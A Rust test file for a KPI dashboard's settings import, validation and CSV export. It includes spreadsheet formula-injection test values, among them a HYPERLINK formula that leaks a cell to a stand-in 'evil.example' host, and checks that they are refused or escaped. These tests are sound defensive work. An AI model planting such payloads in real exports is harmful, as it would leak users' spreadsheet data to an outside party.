//! The Settings page's upload choices reach the loader: number locale, ambiguous date
//! order and the duplicate-`post_id` policy.

use kpi_dash::data::calendar::parse_iso_day;
use kpi_dash::data::ingest::{load, DateOrder, DuplicatePolicy, NumberLocale};
use kpi_dash::data::schema::Measure;
use kpi_dash::data::store::Workspace;
use kpi_dash::metrics::settings::{Preferences, SavedSettings, Settings};

/// Two rows of the same post: 03/04/2025, impressions "1.000,5" and "2.000".
const CSV: &[u8] = b"post_id;platform;date;impressions\nP1;tiktok;03/04/2025;1.000,5\nP1;tiktok;03/04/2025;2.000\n";

#[test]
fn defaults_read_month_first_dot_decimals_and_keep_the_last_row() {
    let options = Preferences::default().import_options();
    assert_eq!(options.date_order, DateOrder::MonthFirst);
    assert_eq!(options.number_locale, NumberLocale::DotDecimal);
    assert_eq!(options.duplicates, DuplicatePolicy::KeepLast);
}

#[test]
fn day_first_comma_decimal_and_sum_are_applied() {
    let settings = Preferences {
        date_order: DateOrder::DayFirst,
        number_locale: NumberLocale::CommaDecimal,
        duplicates: DuplicatePolicy::Sum,
        ..Preferences::default()
    };
    let mut ws = Workspace::default();
    let report = load(&mut ws, "dupes.csv", CSV, &settings.import_options()).unwrap();
    assert_eq!(report.rows_read, 2);
    assert_eq!(report.rows_read, report.rows_used + report.rows_rejected);
    // Summed into one row: 1,000.5 + 2,000 = 3,000.5 impressions, dated 3 April 2025.
    assert_eq!(ws.posts.measure(Measure::Impressions), &[3000.5]);
    assert_eq!(ws.posts.day, vec![parse_iso_day("2025-04-03").unwrap()]);
}

// ---- Imported and stored settings are validated field by field (issue 14, items 5, 6).

use kpi_dash::data::calendar::Day;
use kpi_dash::display::export::{table_csv, ExportCell, ExportContext};
use kpi_dash::display::query::ViewQuery;
use kpi_dash::metrics::settings::{SettingIssue, CURRENCY_SYMBOL_MAX};

/// Imports `json`, returning the settings and the fields that had an issue.
fn import(json: &str) -> (SavedSettings, Vec<SettingIssue>) {
    SavedSettings::from_json(json).expect("a JSON object")
}

fn fields(issues: &[SettingIssue]) -> Vec<&str> {
    issues.iter().map(|i| i.field.as_str()).collect()
}

#[test]
fn exported_defaults_import_with_no_issue() {
    let json = serde_json::to_string(&SavedSettings::default()).unwrap();
    let (settings, issues) = import(&json);
    assert_eq!(settings, SavedSettings::default());
    assert!(issues.is_empty(), "{issues:?}");
    // A valid as_of, as a day number or an ISO date, is kept.
    let (s, issues) = import(r#"{"as_of": 20089}"#);
    assert_eq!((s.compute.as_of, issues.len()), (Some(20089), 0));
    let (s, issues) = import(r#"{"as_of": "2025-01-01"}"#);
    assert_eq!((s.compute.as_of, issues.len()), (Some(20089), 0));
}

#[test]
fn an_as_of_at_plus_or_minus_2_pow_31_falls_back_to_the_data() {
    for raw in [
        "2147483648",
        "-2147483648",
        "2147483647",
        "-2147483649",
        "4e9",
    ] {
        let (settings, issues) = import(&format!(r#"{{"as_of": {raw}, "currency_symbol": "€"}}"#));
        assert_eq!(settings.compute.as_of, None, "{raw}");
        assert_eq!(fields(&issues), ["as_of"], "{raw}");
        assert!(
            issues[0]
                .reason
                .contains("outside 1900-01-01 to 2200-12-31"),
            "{}",
            issues[0].message()
        );
        // The other fields still apply.
        assert_eq!(settings.prefs.currency_symbol, "€");
    }
    for raw in [r#""9999999-01-01""#, r#""2025-01-12l""#, "true"] {
        let (settings, issues) = import(&format!(r#"{{"as_of": {raw}}}"#));
        assert_eq!(
            (settings.compute.as_of, fields(&issues)),
            (None, vec!["as_of"]),
            "{raw}"
        );
    }
    // An as_of set past the import (e.g. by code) is caught by validate as well.
    let mut s = Settings {
        as_of: Some(Day::MIN),
        ..Settings::default()
    };
    assert_eq!(fields(&s.validate()), ["as_of"]);
    assert_eq!(s.as_of, None);
}

#[test]
fn negative_thresholds_and_out_of_range_rates_fall_back_one_by_one() {
    let (saved, issues) = import(
        r#"{
            "alerts": {"roas_min": -1, "conversion_min": 1.5, "engagement_drop": -0.1,
                       "score_min": 250, "pacing_max": 1.3},
            "emv_rates": {"like": -0.5, "view": 0.05},
            "emv_cpm": {"tiktok": -8, "youtube": 15},
            "score_weights": {"engagement": -40}
        }"#,
    );
    let (s, d) = (saved.compute, Settings::default());
    assert_eq!(
        fields(&issues),
        [
            "score_weights.engagement",
            "emv_cpm.tiktok",
            "emv_rates.like",
            "alerts.engagement_drop",
            "alerts.conversion_min",
            "alerts.roas_min",
            "alerts.score_min",
        ]
    );
    // Each refused field is back at its default ...
    assert_eq!(s.alerts.roas_min, d.alerts.roas_min);
    assert_eq!(s.alerts.conversion_min, d.alerts.conversion_min);
    assert_eq!(s.alerts.engagement_drop, d.alerts.engagement_drop);
    assert_eq!(s.alerts.score_min, d.alerts.score_min);
    assert_eq!(s.emv_rates.like, d.emv_rates.like);
    assert_eq!(s.score_weights, d.score_weights);
    // ... and the valid ones beside them are kept.
    assert_eq!(s.alerts.pacing_max, 1.3);
    assert_eq!(s.emv_rates.view, 0.05);
    assert_eq!(s.emv_cpm.get("youtube"), Some(&15.0));
    assert_eq!(s.emv_cpm.get("tiktok"), None);
    let roas = &issues[5];
    assert_eq!(
        roas.message(),
        "alerts.roas_min: -1 is out of range (allowed: 0 or more); the default 3 is used"
    );
    assert_eq!(
        issues[4].message(),
        "alerts.conversion_min: 1.5 is out of range (allowed: from 0 to 1); the default 0.02 is used"
    );
}

#[test]
fn unreadable_fields_fall_back_and_the_rest_applies() {
    let (saved, issues) = import(
        r#"{
            "er_denominator": "likes",
            "alerts": {"roas_min": "three", "score_min": 60},
            "tiers": {"nano": 5000, "micro": 1000},
            "target_overrides": {"roas": {"AtLeast": 4}, "no_such_kpi": {"AtLeast": 1},
                                 "cpa": {"Range": [50, 10]}, "ctr": "high"},
            "number_locale": 7,
            "duplicates": "sum"
        }"#,
    );
    let (s, d) = (&saved.compute, Settings::default());
    assert_eq!(
        fields(&issues),
        [
            "er_denominator",
            "target_overrides.ctr",
            "alerts.roas_min",
            "number_locale",
            "target_overrides.cpa",
            "target_overrides.no_such_kpi",
            "tiers",
        ]
    );
    assert_eq!(s.er_denominator, d.er_denominator);
    assert_eq!(s.alerts.roas_min, d.alerts.roas_min);
    assert_eq!(s.alerts.score_min, 60.0);
    assert_eq!(s.tiers, d.tiers, "bounds that do not rise");
    assert_eq!(s.target_overrides.len(), 1);
    assert!(s.target_overrides.contains_key("roas"));
    assert_eq!(
        saved.prefs.number_locale,
        Preferences::default().number_locale
    );
    assert_eq!(saved.prefs.duplicates, DuplicatePolicy::Sum);
    // No JSON object at all is refused whole.
    assert!(SavedSettings::from_json("[1, 2]").is_err());
    assert!(SavedSettings::from_json("not json").is_err());
}

#[test]
fn a_currency_symbol_is_a_few_characters_and_no_formula() {
    assert_eq!(CURRENCY_SYMBOL_MAX, 8);
    let long = "€".repeat(850_000);
    for bad in [
        "=HYPERLINK(\"http://evil.example/?leak=\"&B5)",
        "=1",
        "+1",
        "-1",
        "@SUM",
        "EURO EUR", // 8 characters: allowed (checked below)
        "123456789",
        long.as_str(),
        "x,=1",
        "a;b",
        "\t$",
    ] {
        let json = serde_json::json!({ "currency_symbol": bad }).to_string();
        let (s, issues) = import(&json);
        if bad == "EURO EUR" {
            assert_eq!((s.prefs.currency_symbol.as_str(), issues.len()), (bad, 0));
            continue;
        }
        assert_eq!(s.prefs.currency_symbol, "$", "{bad:.20}");
        assert_eq!(fields(&issues), ["currency_symbol"], "{bad:.20}");
        // The message quotes at most 40 characters of the value.
        assert!(issues[0].message().chars().count() < 200);
    }
    for good in ["$", "€", "R$", "CHF", "kr.", ""] {
        let json = serde_json::json!({ "currency_symbol": good }).to_string();
        let (s, issues) = import(&json);
        assert_eq!((s.prefs.currency_symbol.as_str(), issues.len()), (good, 0));
    }
}

#[test]
fn a_bad_stored_setting_deserializes_to_the_default_never_an_error() {
    // Local storage and the worker read settings through serde: the same field-by-field
    // reading, so one bad field no longer throws the whole object away (or breaks a page).
    let stored = r#"{"as_of": 2147483647, "currency_symbol": "=cmd", "alerts": {"roas_min": -5},
                     "er_denominator": "impressions"}"#;
    let saved: SavedSettings = serde_json::from_str(stored).unwrap();
    let (s, d) = (&saved.compute, SavedSettings::default());
    assert_eq!(s.as_of, None);
    assert_eq!(saved.prefs.currency_symbol, d.prefs.currency_symbol);
    assert_eq!(s.alerts, d.compute.alerts);
    assert_eq!(s.er_denominator.measure().1, "impressions");
    // The notice the page shows for them.
    let (_, issues) = SavedSettings::from_json(stored).unwrap();
    let notice =
        kpi_dash::metrics::settings::issues_notice("The stored settings", &issues).unwrap();
    assert!(notice.starts_with(
        "The stored settings: 3 settings could not be used and fell back to the default:"
    ));
    assert_eq!(notice.lines().count(), 4);
    assert!(serde_json::from_str::<SavedSettings>("[]").is_err());
}

/// Splits CSV text into records of fields (RFC 4180 quoting).
fn csv_records(text: &str) -> Vec<Vec<String>> {
    let mut records = Vec::new();
    let (mut record, mut field) = (Vec::new(), String::new());
    let (mut quoted, mut chars) = (false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => record.push(std::mem::take(&mut field)),
            (false, '\n') => {
                record.push(std::mem::take(&mut field));
                records.push(std::mem::take(&mut record));
            }
            (false, c) => field.push(c),
        }
    }
    records
}

#[test]
fn the_settings_preamble_of_every_csv_export_is_escaped() {
    // A currency symbol that bypassed validation (a snapshot link carries its own).
    for symbol in [
        "=HYPERLINK(\"http://evil.example/?leak=\"&B5)",
        "x,=HYPERLINK(\"http://evil.example/?leak=\"&B5)",
        "$\n=1+1,@SUM(A1)",
    ] {
        let settings = SavedSettings {
            prefs: Preferences {
                currency_symbol: symbol.into(),
                ..Preferences::default()
            },
            ..SavedSettings::default()
        };
        let context = ExportContext::new(&settings, &ViewQuery::default(), None);
        let csv = table_csv(
            &context,
            &["Campaign", "ROAS"],
            &[vec![
                ExportCell::Text("C1".into()),
                ExportCell::Number(Some(3.0)),
            ]],
        );
        let csv = csv.trim_start_matches('\u{feff}');
        let records = csv_records(csv);
        // 5 preamble lines, the header and the row: each preamble line one field.
        assert_eq!(records.len(), 7, "{csv}");
        for preamble in &records[..5] {
            assert_eq!(preamble.len(), 1, "{preamble:?}");
            assert!(preamble[0].starts_with("# "), "{preamble:?}");
        }
        for field in records.iter().flatten() {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live formula {field:?} in {csv}"
            );
        }
        // The value is neutralized like a cell when it starts like a formula; a comma
        // inside it stays in the one quoted field.
        let currency = &records[2][0];
        let expected = if symbol.starts_with('=') {
            format!("# Currency: '{symbol}")
        } else {
            format!("# Currency: {}", symbol.replace('\n', " "))
        };
        assert_eq!(currency, &expected);
    }
    // Ordinary lines stay as they were: `# label: value`, unquoted.
    let context = ExportContext::new(&SavedSettings::default(), &ViewQuery::default(), None);
    let preamble = context.csv_preamble();
    assert!(preamble.contains("\n# Currency: $\n"), "{preamble}");
    // An imported file cannot set such a symbol in the first place.
    let json =
        serde_json::json!({ "currency_symbol": "=HYPERLINK(\"http://evil.example/?leak=\"&B5)" });
    assert_eq!(import(&json.to_string()).0.prefs.currency_symbol, "$");
}

#[test]
fn the_stored_settings_notice_names_what_fell_back() {
    use kpi_dash::metrics::settings::stored_settings_notice;
    // Nothing stored, or clean settings: no notice.
    assert_eq!(stored_settings_notice(None), None);
    let clean = serde_json::to_string(&SavedSettings::default()).unwrap();
    assert_eq!(stored_settings_notice(Some(&clean)), None);
    // Text that is no settings object: the defaults, said so.
    let notice = stored_settings_notice(Some("{broken")).unwrap();
    assert!(notice.starts_with("The settings stored in this browser could not be read"));
    assert!(notice.ends_with("the defaults are used."));
    // One refused field: one line under the heading.
    let notice = stored_settings_notice(Some(r#"{"as_of": -2147483648}"#)).unwrap();
    assert_eq!(
        notice,
        "The settings stored in this browser: 1 setting could not be used and fell back to \
         the default:\nas_of: day number -2147483648 is a date outside 1900-01-01 to \
         2200-12-31; the default (the last date in the data) is used"
    );
}

#[test]
fn a_flood_of_bad_entries_gives_a_bounded_notice() {
    use kpi_dash::metrics::settings::{issues_notice, CPM_PLATFORMS_MAX, NOTICE_LINES_MAX};
    // 1,000 platforms with a CPM: the first 32 (in key order) are kept, one issue for
    // the other 968.
    let cpm: serde_json::Map<String, serde_json::Value> = (0..1000)
        .map(|n| (format!("p{n:04}"), serde_json::json!(1.0)))
        .collect();
    let (s, issues) = import(&serde_json::json!({ "emv_cpm": cpm }).to_string());
    assert_eq!(s.compute.emv_cpm.len(), CPM_PLATFORMS_MAX);
    assert_eq!(issues.len(), 1);
    assert_eq!(
        issues[0].message(),
        "emv_cpm: 968 platforms past the first 32 are left out"
    );
    // 500 unreadable entries: 500 issues, a notice of 20 lines and a count.
    let cpm: serde_json::Map<String, serde_json::Value> = (0..500)
        .map(|n| (format!("p{n:04}"), serde_json::json!("x")))
        .collect();
    let (_, issues) = import(&serde_json::json!({ "emv_cpm": cpm }).to_string());
    assert_eq!(issues.len(), 500);
    let notice = issues_notice("Settings imported", &issues).unwrap();
    assert_eq!(notice.lines().count(), 1 + NOTICE_LINES_MAX + 1);
    assert!(notice.ends_with("… and 480 more"));
}

// ---- Settings split (issue 15, item 4): compute settings and preferences.

#[test]
fn a_preference_change_keeps_the_compute_key_and_a_compute_change_alters_it() {
    let base = SavedSettings::default();
    let key = base.compute.key();
    // The same settings give the same key, every time.
    assert_eq!(Settings::default().key(), key);
    // Each preference changed: the compute half and its key are untouched.
    let mut prefs = base.clone();
    prefs.prefs.currency_symbol = "€".into();
    prefs.prefs.number_locale = NumberLocale::CommaDecimal;
    prefs.prefs.date_order = DateOrder::DayFirst;
    prefs.prefs.duplicates = DuplicatePolicy::Sum;
    prefs.prefs.currency_rates.insert("EUR".into(), 1.1);
    assert_eq!(prefs.compute.key(), key);
    // Each compute setting changed: another key.
    let changes: [fn(&mut Settings); 9] = [
        |s| s.er_denominator = kpi_dash::metrics::settings::ErDenominator::Impressions,
        |s| s.alerts.roas_min = 2.5,
        |s| s.tiers.nano = 5_000.0,
        |s| s.score_weights.brand_fit = 10.0,
        |s| s.emv_rates.like = 0.2,
        |s| _ = s.emv_cpm.insert("tiktok".into(), 9.0),
        |s| s.emv_method = kpi_dash::metrics::settings::EmvMethod::PerAction,
        |s| s.as_of = Some(20089),
        |s| {
            let roas = serde_json::from_str(r#"{"roas": {"AtLeast": 4}}"#).unwrap();
            s.target_overrides = roas;
        },
    ];
    for (n, change) in changes.iter().enumerate() {
        let mut s = Settings::default();
        change(&mut s);
        assert_ne!(s.key(), key, "change {n} kept the key");
    }
    // A range target and its swapped bounds are different settings: different keys.
    let range = |json: &str| Settings {
        target_overrides: serde_json::from_str(json).unwrap(),
        ..Settings::default()
    };
    assert_ne!(
        range(r#"{"cpa": {"Range": [10, 50]}}"#).key(),
        range(r#"{"cpa": {"Range": [50, 10]}}"#).key()
    );
}

#[test]
fn old_flat_settings_json_reads_into_both_halves() {
    // Settings as saved before the split: one flat object of every field.
    let old = r#"{"er_denominator": "followers", "target_overrides": {"roas": {"AtLeast": 4.0}},
        "score_weights": {"engagement": 50, "conversion": 30, "brand_fit": 20},
        "emv_method": "per_action", "emv_cpm": {"instagram": 11}, "emv_rates":
        {"like": 0.2, "comment": 1, "share": 0.5, "save": 0.5, "view": 0.02},
        "tiers": {"nano": 10000, "micro": 100000, "mid": 500000, "macro_": 1000000},
        "alerts": {"roas_min": 2.5}, "as_of": "2025-01-01", "currency_symbol": "€",
        "number_locale": "comma_decimal", "date_order": "day_first", "duplicates": "sum",
        "currency_rates": {"USD": 0.92}}"#;
    let (saved, issues) = SavedSettings::from_json(old).unwrap();
    assert!(issues.is_empty(), "{issues:?}");
    let s = &saved.compute;
    assert_eq!(s.er_denominator.measure().1, "followers");
    assert_eq!(s.score_weights.engagement, 50.0);
    assert_eq!(s.emv_cpm.get("instagram"), Some(&11.0));
    assert_eq!(s.alerts.roas_min, 2.5);
    assert_eq!(s.as_of, Some(20089));
    assert_eq!(s.target_overrides.len(), 1);
    let p = &saved.prefs;
    assert_eq!(p.currency_symbol, "€");
    assert_eq!(p.number_locale, NumberLocale::CommaDecimal);
    assert_eq!(p.date_order, DateOrder::DayFirst);
    assert_eq!(p.duplicates, DuplicatePolicy::Sum);
    assert_eq!(p.currency_rates.get("USD"), Some(&0.92));
    // Each half reads alone from the same object, ignoring the other's fields.
    assert_eq!(
        Settings::from_json(old).unwrap(),
        (saved.compute.clone(), vec![])
    );
    let prefs: Preferences = serde_json::from_str(old).unwrap();
    assert_eq!(prefs, saved.prefs);
    // Saved again, it is the same flat object (every key at the top level) and reads back.
    let json: serde_json::Value = serde_json::to_value(&saved).unwrap();
    for key in [
        "er_denominator",
        "alerts",
        "as_of",
        "currency_symbol",
        "currency_rates",
    ] {
        assert!(json.get(key).is_some(), "{key} missing in {json}");
    }
    let back: SavedSettings = serde_json::from_value(json).unwrap();
    assert_eq!(back, saved);
    // A bad field of each half: each falls back, one issue each.
    let (saved, issues) =
        SavedSettings::from_json(r#"{"alerts": {"roas_min": -1}, "currency_symbol": "=x"}"#)
            .unwrap();
    assert_eq!(fields(&issues), ["alerts.roas_min", "currency_symbol"]);
    assert_eq!(saved, SavedSettings::default());
}

#[test]
fn an_alert_answer_is_the_same_in_every_currency_and_worded_in_each() {
    use kpi_dash::data::calendar::Granularity;
    use kpi_dash::display::alerts::message;
    use kpi_dash::display::format::NumberStyle;
    use kpi_dash::metrics::alerts::{evaluate, AlertRule};
    use kpi_dash::metrics::engine::{compute, Filter};
    let ws = kpi_dash::data::demo::generate(kpi_dash::data::demo::DEMO_SEED);
    let settings = Settings::default();
    let results = compute(&ws, &Filter::default(), &settings, Granularity::Week);
    // The alerts take the compute settings only: no symbol reaches them.
    let alerts = evaluate(&ws, &Filter::default(), &settings, &results);
    let revenue = alerts
        .iter()
        .find(|a| a.rule == AlertRule::PartnershipRevenue)
        .expect("the demo's partnership alert");
    let style = |symbol: &str| {
        NumberStyle::of(&Preferences {
            currency_symbol: symbol.into(),
            ..Preferences::default()
        })
    };
    let dollars = message(revenue, &style("$"));
    let euros = message(revenue, &style("€"));
    assert!(
        dollars.starts_with("Creator K01: the partnership generated $"),
        "{dollars}"
    );
    assert!(dollars.ends_with(" in revenue."), "{dollars}");
    // The same sentence with the other symbol.
    assert_eq!(euros, dollars.replacen('$', "€", 1));
    // The worker's answer crosses as figures: it reads back equal, with no words in it.
    use kpi_dash::display::questions::{answer_from_json, answer_to_json, Answer};
    let answer = Answer::Alerts(std::sync::Arc::new(alerts.clone()));
    let (json, reasons) = answer_to_json(&answer).unwrap();
    assert_eq!(answer_from_json(&json, &reasons).unwrap(), answer);
    assert!(json.contains(r#""finding":{"kind":"partnership_revenue","revenue":{"value":"#));
    assert!(
        !json.contains("in revenue") && !json.contains('$'),
        "{json:.300}"
    );
}
